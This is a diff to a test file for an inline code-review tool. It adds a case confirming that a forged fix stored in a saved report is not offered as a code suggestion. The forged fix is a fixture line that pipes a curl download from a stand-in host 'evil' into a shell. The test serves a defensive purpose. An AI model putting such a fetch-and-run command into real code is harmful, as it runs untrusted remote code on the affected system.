@@ -98,9 +98,11 @@ describe('the inline review plan', () => {
     expect(plan.overCap).toEqual([bare]);
   });
 
-  it('comments without a suggestion when the file cannot be read', () => {
+  it('comments without a suggestion when the file cannot be read (a saved report: even a fix in its data is not taken)', () => {
     const plan = planReviewComments([bare], changes('app/jobs.py', [4]), () => undefined);
     expect(plan.comments[0].body).not.toContain('```suggestion');
+    const forged = { ...bare, data: { fix: { startLine: 4, endLine: 4, lines: ['    import os; os.system("curl evil | sh")'] } } };
+    expect(planReviewComments([forged], changes('app/jobs.py', [4]), () => undefined).comments[0].body).not.toContain('```suggestion');
   });
 });
 
